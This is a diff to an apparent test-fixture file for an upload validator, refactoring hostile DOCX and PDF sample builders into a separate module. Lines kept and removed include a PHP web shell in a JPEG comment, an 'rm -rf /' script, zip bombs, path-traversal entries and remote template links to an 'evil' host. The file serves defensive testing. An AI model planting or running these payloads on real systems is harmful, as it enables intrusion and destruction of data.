@@ -1,6 +1,5 @@
-import { deflateSync, gzipSync } from 'node:zlib'
-import { strToU8, zipSync, type Zippable } from 'fflate'
 import sharp from 'sharp'
+import { docx, goodDocx, goodPdf, hostileDocx, hostilePdfs } from './hostile-documents.ts'
 
 export interface HostileFile {
   readonly name: string
@@ -50,26 +49,6 @@ function largeJpeg(): Buffer {
   return copy
 }
 
-const document: Zippable = {
-  '[Content_Types].xml': strToU8('<Types><Default Extension="xml" ContentType="application/xml"/></Types>'),
-  'word/document.xml': strToU8('<w:document><w:body><w:p>Curriculum vitae</w:p></w:body></w:document>'),
-}
-const docx = (more: Zippable = {}) => Buffer.from(zipSync({ ...document, ...more }))
-const relation = (type: string, target: string) =>
-  strToU8(`<Relationships><Relationship Id="r1" Type="http://x/${type}" Target="${target}" TargetMode="External"/></Relationships>`)
-
-const pdf = (body = '', after = '') =>
-  Buffer.from(
-    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${body} >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n${after}`,
-    'latin1',
-  )
-const objectStream = (content: Buffer) =>
-  Buffer.concat([
-    Buffer.from('%PDF-1.7\n3 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n'),
-    deflateSync(content),
-    Buffer.from('\nendstream\nendobj\n%%EOF\n'),
-  ])
-
 /** Files that nobody sends by mistake, and some that one might: each is refused, or kept without what made it one of them. */
 export const hostileFiles: readonly HostileFile[] = [
   { name: 'comment.jpg', bytes: withComment('<?php system($_GET[0]); ?>'), without: '<?php' },
@@ -101,35 +80,8 @@ export const hostileFiles: readonly HostileFile[] = [
   { name: 'program.pdf', bytes: Buffer.concat([Buffer.from('\x7fELF\x02\x01', 'latin1'), Buffer.alloc(500)]) },
   { name: 'program.docx', bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]) },
   { name: 'run.sh.pdf', bytes: Buffer.from('#!/bin/sh\nrm -rf /') },
-  { name: 'packed.pdf', bytes: gzipSync(pdf()) },
-  { name: 'archive.docx', bytes: Buffer.from(zipSync({ 'readme.txt': strToU8('hello') })) },
-  { name: 'sheet.docx', bytes: Buffer.from(zipSync({ '[Content_Types].xml': strToU8('<Types/>'), 'xl/workbook.xml': strToU8('<x/>') })) },
-  { name: 'macro.docx', bytes: docx({ 'word/vbaProject.bin': strToU8('attribut') }) },
-  {
-    name: 'macro-type.docx',
-    bytes: docx({
-      '[Content_Types].xml': strToU8('<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'),
-    }),
-  },
-  { name: 'bomb.docx', bytes: docx({ 'word/media/a.xml': [new Uint8Array(80_000_000), { level: 9 }] }) },
-  { name: 'ratio.docx', bytes: docx({ 'word/media/a.xml': [new Uint8Array(20_000_000), { level: 9 }] }) },
-  { name: 'many.docx', bytes: docx(Object.fromEntries(Array.from({ length: 1000 }, (_, index) => [`word/a${index}.xml`, strToU8('x')]))) },
-  { name: 'climbing.docx', bytes: docx({ '../../etc/cron.d/job': strToU8('* * * * * root id') }) },
-  { name: 'rooted.docx', bytes: docx({ '/etc/passwd': strToU8('root') }) },
-  { name: 'template.docx', bytes: docx({ 'word/_rels/settings.xml.rels': relation('attachedTemplate', 'http://evil/t.dotm') }) },
-  { name: 'frame.docx', bytes: docx({ 'word/_rels/document.xml.rels': relation('oleObject', 'http://evil/o') }) },
-  { name: 'embedded.docx', bytes: docx({ 'word/embeddings/oleObject1.bin': strToU8('MZ') }) },
-  { name: 'page-behind.docx', bytes: Buffer.concat([docx(), Buffer.from('<html>')]) },
-  { name: 'script.pdf', bytes: pdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>') },
-  { name: 'disguised.pdf', bytes: pdf('/OpenAction << /S /J#61vaScr#69pt >>') },
-  { name: 'hidden.pdf', bytes: objectStream(Buffer.from('3 0 << /S /JavaScript >>')) },
-  { name: 'bomb.pdf', bytes: objectStream(Buffer.alloc(50_000_000)) },
-  { name: 'launch.pdf', bytes: pdf('/OpenAction << /S /Launch /F (cmd.exe) >>') },
-  { name: 'carrier.pdf', bytes: pdf('/Names << /EmbeddedFiles 9 0 R >>') },
-  { name: 'sealed.pdf', bytes: pdf('/Encrypt 8 0 R') },
-  { name: 'archive-behind.pdf', bytes: Buffer.concat([pdf(), docx()]) },
-  { name: 'page-before.pdf', bytes: Buffer.concat([Buffer.from('<html><script>1</script>'), pdf()]) },
-  { name: 'cut.pdf', bytes: Buffer.from('%PDF-1.7\n1 0 obj') },
+  ...hostilePdfs,
+  ...hostileDocx,
 ]
 
 /** What people do send. */
@@ -138,6 +90,6 @@ export const goodFiles = {
   png,
   webp,
   avif,
-  pdf: pdf(),
-  docx: docx({ 'word/_rels/document.xml.rels': relation('hyperlink', 'https://example.com') }),
+  pdf: goodPdf,
+  docx: goodDocx,
 }
